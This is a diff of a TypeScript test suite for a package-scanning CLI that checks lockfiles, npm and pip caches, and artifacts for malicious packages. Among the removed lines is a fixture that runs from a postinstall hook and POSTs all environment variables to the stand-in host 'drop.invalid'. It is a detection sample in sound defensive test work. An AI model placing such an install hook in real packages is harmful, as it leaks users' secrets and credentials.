@@ -1,93 +1,21 @@
-import { createHash } from 'node:crypto';
-import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { dirname, join } from 'node:path';
-import type { LocalScan } from '@sallyport/analysis';
+import { chmodSync, rmSync, symlinkSync } from 'node:fs';
+import { join } from 'node:path';
 import { npmPackage, tarball, wheel, zip } from '@sallyport/analysis/testing';
-import { DomainError } from '@sallyport/domain';
-import { discover } from '@sallyport/requirements/testing';
-import { runCli } from '../cli';
 import { EXIT, type ExitCode } from '../exit-code';
-import { realMachine, type RealMachine } from '../testing/real-machine.fake';
-import type { Machine } from './machine';
-import { headOf } from './head-of';
+import {
+  freshHome,
+  honest,
+  put,
+  removeHome,
+  root,
+  scan,
+  scanned,
+  steals,
+  THIEF,
+} from '../testing/scan-home.fake';
 
-const THIEF = `
-const https = require('https');
-https.request({ host: 'drop.invalid', method: 'POST' }).end(JSON.stringify(process.env));
-`;
-const steals = (manifest: object = {}): Promise<Buffer> =>
-  npmPackage(
-    { name: 'thief', scripts: { postinstall: 'node a.js' }, ...manifest },
-    {
-      'a.js': "require('./lib/b');",
-      'lib/b.js': THIEF,
-    },
-  );
-const honest = (name = 'honest'): Promise<Buffer> =>
-  npmPackage({ name }, { 'index.js': 'module.exports = 1;' });
-const sri = (bytes: Buffer, algorithm = 'sha512'): string =>
-  `${algorithm}-${createHash(algorithm).update(bytes).digest('base64')}`;
-
-let root: string;
-beforeEach(() => {
-  root = realpathSync(mkdtempSync(join(tmpdir(), 'scan-local-')));
-});
-afterEach(() => rmSync(root, { recursive: true, force: true }));
-
-function put(path: string, content: string | Buffer): string {
-  const file = join(root, path);
-  mkdirSync(dirname(file), { recursive: true });
-  writeFileSync(file, content);
-  return file;
-}
-
-/** As npm's cache keeps it. */
-function cache(bytes: Buffer): void {
-  const hex = createHash('sha512').update(bytes).digest('hex');
-  put(`.npm/_cacache/content-v2/sha512/${hex.slice(0, 2)}/${hex.slice(2, 4)}/${hex.slice(4)}`, bytes);
-}
-
-interface Ran {
-  exit: ExitCode;
-  text: string;
-  error: string;
-  machine: RealMachine;
-  written: Record<string, string>;
-}
-
-async function scan(words: readonly string[], programs?: Machine['run'], crashesOn?: string): Promise<Ran> {
-  const machine = realMachine(root, programs);
-  machine.crashesOn = crashesOn;
-  const [out, err] = [[] as string[], [] as string[]];
-  const written: Record<string, string> = {};
-  const exit = await runCli(['scan', ...words], {
-    ...{ env: {}, cwd: root, osUser: 'me', machine, headOf },
-    stdout: { write: (text) => void out.push(text), isTTY: false },
-    stderr: { write: (text) => void err.push(text), isTTY: false },
-    readText: () => {
-      throw new Error('no connect.json here');
-    },
-    exists: (path) => headOf(path) !== undefined,
-    writeText: (path, text) => void (written[path] = text),
-    discoverSkill: (path) => Promise.resolve(discover(path)),
-    namesIn: (path) => (headOf(path) === undefined && !/\.\w+$/.test(path) ? [] : undefined),
-    connect: () => Promise.reject(new DomainError('bus-unavailable', 'nobody is there')),
-    getJson: () => Promise.reject(new DomainError('nobody-listens', 'nobody is there')),
-    ...{ now: () => 0, clock: () => 0, sleep: () => Promise.resolve() },
-  });
-  return { exit, text: out.join(''), error: err.join(''), machine, written };
-}
-
-async function scanned(
-  words: readonly string[],
-  programs?: Machine['run'],
-  crashesOn?: string,
-): Promise<LocalScan & Ran> {
-  const ran = await scan([...words, '--json'], programs, crashesOn);
-  const json = JSON.parse(ran.text) as LocalScan & { scan?: LocalScan };
-  return { ...(json.scan ?? json), ...ran };
-}
+beforeEach(freshHome);
+afterEach(removeHome);
 
 describe('scan/scan-local', () => {
   it.each<[string, string, () => Promise<Buffer> | Buffer, string | null, string, ExitCode]>([
@@ -246,123 +174,6 @@ describe('scan/scan-local', () => {
     expect(exit).toBe(EXIT.denied);
   });
 
-  it('looks at what a lock pins where the bytes are at hand, and names the rest', async () => {
-    const [good, bad, elsewhere] = [await honest('good'), await steals(), await honest('elsewhere')];
-    cache(good);
-    put('artifacts/x.bin', bad);
-    const entry = (version: string, integrity?: string) => ({
-      version,
-      ...(integrity === undefined ? {} : { integrity }),
-    });
-    put(
-      'package-lock.json',
-      JSON.stringify({
-        lockfileVersion: 3,
-        packages: {
-          'node_modules/good': entry('1.0.0', sri(good)),
-          'node_modules/thief': entry('1.0.0', sri(bad)),
-          'node_modules/elsewhere': entry('1.0.0', sri(elsewhere)),
-          'node_modules/weak': entry('1.0.0', sri(good, 'sha1')),
-          'node_modules/bare': entry('1.0.0'),
-          'node_modules/renamed': entry('2.0.0', sri(good)),
-        },
-      }),
-    );
-
-    const { artifacts, notLookedAt, exit, verdict } = await scanned([
-      'package-lock.json',
-      '--artifacts',
-      'artifacts',
-    ]);
-
-    expect(artifacts.map((each) => [each.what, each.source, each.verdict])).toEqual([
-      ['pkg:npm/thief@1.0.0', 'artifacts', 'malicious'],
-      ['pkg:npm/renamed@2.0.0', 'npm-cache', 'suspicious'],
-      ['pkg:npm/good@1.0.0', 'npm-cache', 'clean'],
-    ]);
-    expect(notLookedAt.map(({ what, why }) => [what, why.slice(0, 24)])).toEqual([
-      ['pkg:npm/elsewhere@1.0.0', 'not at hand (--fetch, or'],
-      ['pkg:npm/weak@1.0.0', 'the lock states a SHA-1 '],
-      ['pkg:npm/bare@1.0.0', 'the lock states no diges'],
-    ]);
-    expect([verdict, exit]).toEqual(['malicious', EXIT.denied]);
-  });
-
-  it('does not call a lock clean of which nothing is at hand', async () => {
-    put('requirements.txt', `six==1.16.0 --hash=sha256:${'0'.repeat(64)}\nrich\n`);
-
-    const { verdict, exit, notLookedAt } = await scanned(['requirements.txt']);
-
-    expect(notLookedAt.map(({ what }) => what)).toEqual(['pkg:pypi/six@1.16', 'pypi:rich']);
-    expect([verdict, exit]).toEqual(['unknown', EXIT.failed]);
-  });
-
-  it("finds wheels in pip's cache by the digest that a lock states", async () => {
-    const bytes = wheel({ 'sample/__init__.py': '' });
-    put('.cache/pip/http-v2/a/b/c.body', bytes);
-    const hashes = [bytes, Buffer.from('for another machine')].map(
-      (each) => `--hash=sha256:${createHash('sha256').update(each).digest('hex')}`,
-    );
-    put('requirements.txt', `sample==1.0.0 ${hashes.join(' ')}\n`);
-
-    const { verdict, exit, artifacts, otherArtifacts } = await scanned(['requirements.txt']);
-
-    expect(artifacts).toMatchObject([{ source: 'pip-cache', name: 'sample', verdict: 'clean' }]);
-    expect([verdict, exit, otherArtifacts]).toEqual(['clean', EXIT.ok, 1]);
-  });
-
-  it.each<[string, string | Buffer, object]>([
-    ['what was stated', 'honest', { verdict: 'clean', exit: EXIT.ok }],
-    ['something else', 'other', { verdict: 'unknown', exit: EXIT.failed }],
-  ])('holds what npm fetches to the lock: %s', async (_, name, expected) => {
-    const stated = await honest();
-    put(
-      'package-lock.json',
-      JSON.stringify({
-        lockfileVersion: 3,
-        packages: { 'node_modules/honest': { version: '1.0.0', integrity: sri(stated) } },
-      }),
-    );
-    const fetched = await honest(String(name));
-
-    const found = await scanned(['package-lock.json', '--fetch'], (program, words) => {
-      const destination = words.find((word) => word.startsWith('--pack-destination='))?.split('=')[1];
-      if (destination !== undefined) writeFileSync(join(destination, 'x.tgz'), fetched);
-      return Promise.resolve({ status: 0, stdout: '', stderr: program });
-    });
-
-    expect(found).toMatchObject(expected);
-    expect(found.machine.ran.filter(([, word]) => word === 'pack')).toEqual([
-      expect.arrayContaining(['npm', 'pack', '--ignore-scripts', 'honest@1.0.0']),
-    ]);
-  });
-
-  it('fetches nothing unless it is told to', async () => {
-    const { machine, exit, notLookedAt } = await scanned(['pkg:npm/left-pad@1.3.0']);
-
-    expect(machine.ran).toEqual([['npm', 'config', 'get', 'cache']]);
-    expect(notLookedAt).toMatchObject([{ what: 'pkg:npm/left-pad@1.3.0' }]);
-    expect(exit).toBe(EXIT.failed);
-  });
-
-  it('looks at a release by its purl in a folder of artifacts', async () => {
-    put('artifacts/honest-1.0.0.tgz', await honest());
-
-    expect(await scanned(['pkg:npm/honest@1.0.0', '--artifacts', 'artifacts'])).toMatchObject({
-      verdict: 'clean',
-      exit: EXIT.ok,
-      artifacts: [{ what: 'pkg:npm/honest@1.0.0' }],
-    });
-  });
-
-  it('asks pip for wheels alone, since it would build an sdist', async () => {
-    const { machine } = await scanned(['pkg:pypi/six@1.16.0', '--fetch']);
-
-    expect(machine.ran.at(-1)).toEqual(
-      expect.arrayContaining(['pip', 'download', '--only-binary=:all:', '--no-deps']),
-    );
-  });
-
   it('refuses archives beside something else, and names that are no archive', async () => {
     put('a.tgz', await honest());
 
@@ -378,7 +189,7 @@ describe('scan/scan-local', () => {
 
     const { text } = await scan(['a.tgz']);
 
-    expect(text).not.toMatch(/[\u001b\u202e]/);
+    expect(text).not.toMatch(/\p{Cc}(?<!\n)|\u202e/u);
   });
 
   it('writes SARIF with the rules, the places and how they are reached', async () => {
